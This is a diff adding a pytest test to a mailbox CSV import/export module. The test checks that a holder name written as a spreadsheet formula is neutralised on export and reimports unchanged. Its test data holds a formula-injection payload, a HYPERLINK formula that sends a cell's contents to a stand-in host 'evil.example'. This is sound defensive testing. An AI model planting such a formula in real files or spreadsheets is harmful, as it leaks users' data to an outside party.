@@ -329,3 +329,19 @@ def test_a_kiosk_may_not_import(engine):
     with pytest.raises(AccessDenied):
         import_mailboxes(engine, kiosk, _csv(f"{MARIO},{PLAN}"))
     assert _counts(engine)[0] == 0
+
+
+def test_a_holder_name_like_a_formula_is_defused_and_imports_back_unchanged(engine, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    row = f'mario.rossi@pec.it,RSSMRA85T10A562S,"{formula.replace(chr(34), chr(34) * 2)}",'
+    import_mailboxes(engine, SYSTEM, _csv(f"{row}privato,mario@example.it,{PLAN}"))
+    exported = _export(engine)
+    (record,) = csv.DictReader(io.StringIO(exported))
+    assert record["holder_name"] == "'" + formula  # a spreadsheet shows it as text
+    other = make_engine(f"sqlite:///{tmp_path / 'other.db'}")
+    upgrade(other)
+    import_mailboxes(other, SYSTEM, io.StringIO(exported))
+    with Session(other) as session:
+        assert session.execute(select(Holder.display_name)).scalar_one() == formula
+    assert _export(other) == exported
+    other.dispose()
